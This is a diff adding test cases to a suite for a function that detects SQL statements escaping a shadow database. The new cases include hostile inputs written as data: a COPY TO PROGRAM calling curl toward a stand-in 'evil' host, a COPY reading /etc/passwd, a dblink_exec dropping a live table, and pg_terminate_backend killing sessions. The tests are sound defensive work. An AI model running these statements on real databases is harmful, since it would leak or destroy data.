@@ -19,6 +19,12 @@ describe('serverWideStatement: what a committed statement in a shadow on the liv
     ['CREATE INDEX i ON t (c); DROP ROLE old', 'DROP ROLE'],
     ['DO $$ BEGIN EXECUTE $q$CREATE ROLE x$q$; END $$', 'a DO block, whose statements cannot be read before they run'],
     ['CREATE INDEX CONCURRENTLY i ON', expect.stringMatching(/parser cannot read/)],
+    ["COPY users TO PROGRAM 'curl evil'", "COPY to or from a file or program on the server's machine"],
+    ["COPY users FROM '/etc/passwd'", "COPY to or from a file or program on the server's machine"],
+    ["SELECT dblink_exec('dbname=live', 'DROP TABLE users')", 'a call of dblink_exec()'],
+    ['SELECT pg_terminate_backend(pid) FROM pg_stat_activity', 'a call of pg_terminate_backend()'],
+    ["INSERT INTO t SELECT * FROM public.dblink('dbname=live', 'SELECT 1') AS x(a int)", 'a call of dblink()'],
+    ["CREATE SERVER live FOREIGN DATA WRAPPER postgres_fdw OPTIONS (dbname 'live')", 'CREATE SERVER'],
   ])('%s: %s', async (sql, expected) => {
     expect(await serverWideStatement(sql)).toEqual(expected);
   });
@@ -32,6 +38,8 @@ describe('serverWideStatement: what a committed statement in a shadow on the liv
     'ALTER TABLE t RENAME TO u',
     "ALTER TYPE mood ADD VALUE 'meh'",
     'REINDEX INDEX CONCURRENTLY i',
+    'COPY users TO STDOUT',
+    "SELECT set_config('search_path', 'app', false)",
   ])('%s stays inside its database', async (sql) => {
     expect(await serverWideStatement(sql)).toBeUndefined();
   });
